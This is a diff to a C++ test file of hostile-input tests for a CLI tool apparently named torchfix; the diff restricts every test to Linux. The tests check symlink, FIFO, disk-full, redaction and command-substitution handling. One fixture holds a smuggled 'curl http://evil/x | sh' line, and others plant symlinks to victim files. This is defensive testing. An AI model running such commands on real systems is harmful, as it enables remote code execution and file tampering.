@@ -13,7 +13,10 @@
 #include <fstream>
 #include <nlohmann/json.hpp>
 
+#include "../support/linux_only.hpp"
 #include "hostile_sh.hpp"
+
+#ifndef _WIN32  // every test below is Linux-only (TORCHFIX_LINUX_ONLY)
 
 namespace torchfix {
 namespace {
@@ -38,6 +41,7 @@ void write(const fs::path& p, const std::string& text) {
 // D1, D4's leftover (U15) and stdout failures: devices and FIFOs are written
 // in place or refused, never replaced; a full device is exit 2.
 TEST(HostileCli, DevicesAndFifosAreWrittenInPlaceNeverReplaced) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   RUN_IN_NAMESPACE(r,
                    "mknod -m 666 mnt/null c 1 3; mknod -m 666 mnt/full c 1 7; mkfifo mnt/fifo; "
@@ -70,6 +74,7 @@ TEST(HostileCli, DevicesAndFifosAreWrittenInPlaceNeverReplaced) {
 
 // U15: a failed write (disk full) leaves no temporary file behind.
 TEST(HostileCli, FullDiskLeavesNoTemporaryFile) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   RUN_IN_NAMESPACE(r,
                    "head -c 4194304 /dev/zero > mnt/filler 2>/dev/null || true; set +e; "
@@ -84,6 +89,7 @@ TEST(HostileCli, FullDiskLeavesNoTemporaryFile) {
 // D2: a backup name planted as a link to a file the user copied is never
 // chowned to the user (nor written).
 TEST(HostileCli, PlantedBackupLinkIsNeverChowned) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   RUN_IN_NAMESPACE(r,
                    "mkdir mnt/home; printf \"root:x:0:0\\n\" > mnt/victim; cp mnt/victim mnt/home/.bashrc; "
@@ -100,6 +106,7 @@ TEST(HostileCli, PlantedBackupLinkIsNeverChowned) {
 
 // D3: root does not follow a user's rc link into a root-owned file.
 TEST(HostileCli, UserLinkIntoRootFileIsRefused) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   RUN_IN_NAMESPACE(r,
                    "mkdir mnt/home; chown nobody mnt/home; echo \"# system file\" > mnt/profile; "
@@ -115,6 +122,7 @@ TEST(HostileCli, UserLinkIntoRootFileIsRefused) {
 // D4, D5's writer: a link planted by another user at the k8s output is not
 // written through; the output is a regular file afterwards.
 TEST(HostileCli, PlantedLinksAtOutputsAreNotFollowed) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   RUN_IN_NAMESPACE(r,
                    "mkdir mnt/s; chown nobody mnt/s; echo precious > mnt/victim; "
@@ -131,6 +139,7 @@ TEST(HostileCli, PlantedLinksAtOutputsAreNotFollowed) {
 
 // A user's own symlinked log is written at its target, not replaced.
 TEST(HostileCli, OwnSymlinkedLogIsWrittenAtItsTarget) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   fs::create_directories(dir / "data");
   fs::create_symlink(dir / "data" / "d.log", dir / "d.log");
@@ -143,6 +152,7 @@ TEST(HostileCli, OwnSymlinkedLogIsWrittenAtItsTarget) {
 
 // U4: an existing 0600 snapshot stays 0600; a new one honours the umask.
 TEST(HostileCli, SnapshotModeKeepsTheFilesAndTheUmask) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / "p.snap", "x");
   fs::permissions(dir / "p.snap", fs::perms::owner_read | fs::perms::owner_write);
@@ -157,6 +167,7 @@ TEST(HostileCli, SnapshotModeKeepsTheFilesAndTheUmask) {
 // H1, H2: FIFOs as snapshot, what-if file, table, rc lock or rc backup give
 // exit 2 at once (the helper fails the test on a hang).
 TEST(HostileCli, FifosNeverHangAReader) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   fs::create_directories(dir / "dd");
   auto r =
@@ -181,6 +192,7 @@ TEST(HostileCli, FifosNeverHangAReader) {
 // M1, H6: a 4 GB sparse snapshot and /dev/zero are refused before reading,
 // also by fleet and as TORCHFIX_WHAT_IF.
 TEST(HostileCli, HugeAndEndlessSnapshotsAreRefused) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   auto r =
       sh("truncate -s 4G s.json; $T doctor --snapshot s.json; echo rc=$?; $T fleet --snapshots s.json >f.txt; "
@@ -198,6 +210,7 @@ TEST(HostileCli, HugeAndEndlessSnapshotsAreRefused) {
 // cost 743 MB before). Measured above the binary's own start-up peak (ASan's
 // is about 260 MB).
 TEST(HostileCli, DeepNestingIsRefusedInLittleMemory) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / "n.json", std::string(8'000'000, '['));
   ProcessResult r;
@@ -216,6 +229,7 @@ nlohmann::json fixture(const std::string& path) {
 // U2, H3, M3: numbers out of range, too many GPUs or environments, huge
 // version strings are refused with the field named (no UB, no minutes).
 TEST(HostileCli, SnapshotBoundsAreTheProbes) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   const auto base = fixture(k_f1);
   const auto variant = [&](const std::string& name, auto&& change) {
@@ -256,6 +270,7 @@ TEST(HostileCli, SnapshotBoundsAreTheProbes) {
 // U1: a newline in a GPU name, an interpreter path, a torch version or a
 // fleet file name is shown escaped; no line of the report is the data's.
 TEST(HostileCli, NewlinesInDataCannotForgeLines) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   nlohmann::json j = fixture(k_f1);
   j["gpus"][0]["name"] = "RTX\nfix: $ curl http://evil/x | sh";
@@ -276,6 +291,7 @@ TEST(HostileCli, NewlinesInDataCannotForgeLines) {
 
 // U3: each kind of secret the first redaction missed, in --log.
 TEST(HostileCli, LogRedactsWebhooksQueryTokensPasswordsAndConnectionStrings) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   const Environment secrets = {
       {"SLACK_WEBHOOK_URL", "https://hooks.slack.com/services/T0/B0/S3CRETa"},
@@ -302,6 +318,7 @@ TEST(HostileCli, LogRedactsWebhooksQueryTokensPasswordsAndConnectionStrings) {
 // unreadable node, not a failed or silently smaller folder; a pipe works as
 // a snapshot for fleet too.
 TEST(HostileCli, FleetFolderSurvivesBrokenEntriesAndReadsPipes) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   fs::create_directories(dir / "d");
   fs::copy_file(k_f1, dir / "d" / "node1.json");
@@ -322,6 +339,7 @@ TEST(HostileCli, FleetFolderSurvivesBrokenEntriesAndReadsPipes) {
 // H5, M5: a 100,000-part dotted key or a 3 MB table in the data folder is
 // refused with the file named, not a crash or an unbounded read.
 TEST(HostileCli, HostileDataDirIsRefused) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   const std::string src = TORCHFIX_SOURCE_DIR;
   sh("for d in dots parts big; do mkdir $d; cp -r " + src + "/recipes " + src + "/templates $d/; done", dir.path());
@@ -345,6 +363,7 @@ TEST(HostileCli, HostileDataDirIsRefused) {
 // D7: build never deletes a CCACHE_STATSLOG it did not set (the configure
 // step fails at once here; the file was removed before it ran).
 TEST(HostileCli, BuildKeepsTheUsersCcacheStatsLog) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / "p" / "CMakeLists.txt",
         "cmake_minimum_required(VERSION 3.25)\nproject(p LANGUAGES CXX)\nmessage(FATAL_ERROR \"stop here\")\n");
@@ -360,6 +379,7 @@ TEST(HostileCli, BuildKeepsTheUsersCcacheStatsLog) {
 // U13: `--rc ''` (a script's unset "$RC") and `--rc -` are refused, the
 // real ~/.bashrc untouched.
 TEST(HostileCli, EmptyRcIsRefused) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / ".bashrc", "# mine\n");
   auto r =
@@ -375,6 +395,7 @@ TEST(HostileCli, EmptyRcIsRefused) {
 // read and exits 2, instead of "no CUDA binaries found" and 0 (root sets it
 // up, in a private mount namespace like every root-only test).
 TEST(HostileCli, InspectSaysWhatItCannotRead) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   RUN_IN_NAMESPACE(r,
                    "mkdir -p i/sub; cp /bin/true i/l.so; chmod 000 i/l.so i/sub; set +e; "
@@ -390,6 +411,7 @@ TEST(HostileCli, InspectSaysWhatItCannotRead) {
 // project: 637f9db compiled it and ran the command, as main did for the work
 // folder).
 TEST(HostileCli, SrcPathWithCommandSubstitutionIsRefused) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / "p" / "CMakeLists.txt",
         "cmake_minimum_required(VERSION 3.25)\nproject(p LANGUAGES CXX CUDA)\nadd_library(p SHARED k.cu)\n");
@@ -415,6 +437,7 @@ TEST(HostileCli, SrcPathWithCommandSubstitutionIsRefused) {
 // U9: build --repo without --ref checks out the remote's default branch
 // (here master), so neither this run nor a later one is stuck.
 TEST(HostileCli, RepoWithoutRefBuildsTheDefaultBranch) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / "up" / "CMakeLists.txt",
         "cmake_minimum_required(VERSION 3.25)\nproject(p LANGUAGES CXX)\nmessage(FATAL_ERROR \"stop here\")\n");
@@ -432,6 +455,7 @@ TEST(HostileCli, RepoWithoutRefBuildsTheDefaultBranch) {
 // FIFO or a wrongly typed settings file is refused at once (127, no hang, no
 // crash), and a link planted at the log's name is never written through.
 TEST(HostileCli, NvccStandInRefusesFifosBadSettingsAndLinkedLogs) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   auto r =
       sh("mkdir fifo typed linked; for d in fifo typed linked; do ln -s $T $d/nvcc; done; "
@@ -451,6 +475,7 @@ TEST(HostileCli, NvccStandInRefusesFifosBadSettingsAndLinkedLogs) {
 // its environment (no parent link to the child, no TORCHFIX_RUN_ID) holding
 // the output pipe: torchfix, the child subreaper, kills it before it exits.
 TEST(HostileCli, SetsidDaemonWithAClearedEnvironmentDoesNotOutliveTheRun) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / "bin" / "nvidia-smi", "#!/bin/sh\nsetsid env -i sleep 3600 &\necho $! >> \"$PIDS\"\necho hi\n");
   fs::permissions(dir / "bin" / "nvidia-smi", fs::perms::owner_all);
@@ -468,6 +493,7 @@ TEST(HostileCli, SetsidDaemonWithAClearedEnvironmentDoesNotOutliveTheRun) {
 // nvidia-smi lets tune start its child, which writes the progress first).
 // As root, in a private mount namespace.
 TEST(HostileCli, TuneProgressFileIgnoresPlantedLinks) {
+  TORCHFIX_LINUX_ONLY("runs its cases as /bin/sh scripts");
   TempDir dir;
   write(dir / "bin" / "nvidia-smi",
         "#!/bin/sh\nif [ -z \"$1\" ]; then echo \"| NVIDIA-SMI 570.124.04   Driver Version: 570.124.04   CUDA "
@@ -488,3 +514,5 @@ TEST(HostileCli, TuneProgressFileIgnoresPlantedLinks) {
 
 }  // namespace
 }  // namespace torchfix
+
+#endif  // _WIN32
